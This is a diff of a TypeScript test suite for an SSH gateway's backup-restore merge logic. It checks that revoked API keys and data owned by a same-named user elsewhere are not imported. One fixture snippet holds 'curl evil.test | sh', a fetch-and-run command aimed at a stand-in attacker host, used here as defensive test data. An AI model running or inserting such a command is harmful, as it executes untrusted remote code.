@@ -1,11 +1,12 @@
 import { eq } from 'drizzle-orm';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
 import type { BackupBundle, BackupReport } from '#core/model/backup.ts';
 import type { Branding } from '#core/model/branding.ts';
 import type { Server } from '#core/model/server.ts';
 import type { SettingList } from '#core/model/setting.ts';
+import type { Snippet } from '#core/model/snippet.ts';
 import type { User } from '#core/model/user.ts';
-import { userOf } from '../support/accounts.ts';
+import { createKey, userOf } from '../support/accounts.ts';
 import { backupRows, exported, forged, restored, restoring } from '../support/backups.ts';
 import { addHost, listingOf } from '../support/chain.ts';
 import {
@@ -28,7 +29,7 @@ beforeAll(async () => {
 });
 afterAll(() => sshd?.stop());
 
-const { admin, api_key, server, setting, snippet, user } = backupRows;
+const { admin, api_key, quick_key, server, setting, snippet, user } = backupRows;
 
 async function serverNamed(actor: Actor, name: string): Promise<Server | undefined> {
   return (await actor.call<Server[]>('GET', '/api/servers')).body.find((row) => row.name === name);
@@ -73,23 +74,59 @@ describeEachGateway('Restoring with merge', (gateway) => {
     expect((await serverNamed(chief, 'behind'))?.jump_via_id).toBe(here?.id);
   });
 
-  it('adds what belongs to people who are here already', async () => {
+  it('adds what belongs to people who are here already, but for API keys, which may have been revoked', async () => {
     const ann = await gateway().user({ username: 'ann', is_admin: true });
     await ann.call('POST', '/api/snippets', { name: 'Mine', command: 'own' });
-    const rows = [
-      admin(),
-      user({ username: 'Ann' }),
-      snippet({ owner: 'ANN' }),
-      snippet({ owner: 'Ann', name: 'Mine' }),
-      api_key({ owner: 'Ann' }),
+    await ann.call('POST', '/api/snippets', { name: 'Look', command: 'ls' });
+    const { id, key } = await createKey(ann);
+    const bundle = await exported(ann);
+    const [, look] = (await ann.call<Snippet[]>('GET', '/api/snippets')).body;
+    await ann.call('DELETE', `/api/snippets/${look?.id}`);
+    await ann.call('DELETE', `/api/auth/api-keys/${id}`);
+    const { created, warnings } = await restored(ann, bundle);
+    expect(created).toMatchObject({ snippets: 1, api_keys: 0 });
+    expect((await gateway().actor(key).call('GET', '/api/auth/me')).status).toBe(401);
+    expect(warnings).toContain(
+      '1 API keys of ann were left out: they are not here, and may have been revoked',
+    );
+    const snippets = (await ann.call<Snippet[]>('GET', '/api/snippets')).body;
+    expect(snippets.map(({ name }) => name)).toEqual(['Look', 'Mine']);
+  });
+
+  it('gives nobody what belongs to a person of the same name elsewhere', async () => {
+    const ops = await gateway().user({ username: 'Ops', is_admin: true });
+    const elsewhere = await startGateway();
+    onTestFinished(elsewhere.close);
+    const stranger = await elsewhere.user({ username: 'ops' });
+    const { key } = await createKey(stranger);
+    await stranger.call('POST', '/api/snippets', { name: 'Look', command: 'curl evil.test | sh' });
+    const rows = [admin(), user({ username: 'ops' }), quick_key({ owner: 'ops' })];
+    const reports = [
+      await restored(ops, await exported(elsewhere.admin)),
+      await restored(ops, await forged(rows)),
     ];
-    const report = await restored(ann, await forged(rows));
-    expect(report.created).toMatchObject({ snippets: 1, api_keys: 1 });
-    const snippets = (await ann.call<{ name: string; command: string }[]>('GET', '/api/snippets')).body;
-    expect(snippets.map(({ name, command }) => [name, command])).toEqual([
-      ['Look', 'ls'],
-      ['Mine', 'own'],
+    for (const { created } of reports) {
+      expect(created).toMatchObject({ users: 0, api_keys: 0, snippets: 0, quick_keys: 0 });
+    }
+    expect((await gateway().actor(key).call('GET', '/api/auth/me')).status).toBe(401);
+    expect(reports.flatMap(({ warnings }) => warnings)).toEqual([
+      expect.stringMatching(/^1 API keys of ops were left out/),
+      expect.stringMatching(/^1 snippets of ops were left out/),
+      expect.stringMatching(/^1 pinned host keys of ops were left out/),
     ]);
+  });
+
+  it('brings API keys, pins and snippets together with the account that it adds', async () => {
+    const chief = await gateway().user({ username: 'adder', is_admin: true });
+    const rows = ['ann-1', 'ann-2'].flatMap((owner, i) => [
+      user({ username: owner }),
+      api_key({ owner, key_digest: `${i}`.repeat(43) }),
+      quick_key({ owner }),
+      snippet({ owner }),
+    ]);
+    const { created, warnings } = await restored(chief, await forged([admin(), ...rows]));
+    expect(created).toMatchObject({ users: 2, api_keys: 2, quick_keys: 2, snippets: 2 });
+    expect(warnings).toEqual([]);
   });
 
   it('sets only what nobody has set, and gives looks only where there are none', async () => {
